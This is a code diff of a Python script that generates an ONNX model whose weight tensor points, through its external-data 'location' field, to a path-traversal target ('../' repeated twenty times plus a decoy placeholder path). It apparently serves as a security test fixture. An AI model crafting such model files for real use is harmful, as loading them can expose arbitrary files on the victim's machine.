@@ -1,5 +1,4 @@
 import numpy
-import onnx
 from onnx import TensorProto, helper, numpy_helper
 
 images = helper.make_tensor_value_info("images", TensorProto.FLOAT, ["batch", 1, 28, 28])
@@ -17,7 +16,11 @@ def save(nodes, tensors, name="model.onnx"):
 
 weight.ClearField("raw_data")
 weight.data_location = TensorProto.EXTERNAL
-for key, value in {"location": "../" * 20 + "@DECOYS@/shared.db".lstrip("/"), "offset": "0", "length": str(784 * 10 * 4)}.items():
+for key, value in {
+    "location": "../" * 20 + "@DECOYS@/shared.db".lstrip("/"),
+    "offset": "0",
+    "length": str(784 * 10 * 4),
+}.items():
     entry = weight.external_data.add()
     entry.key, entry.value = key, value
 save(nodes, [weight])
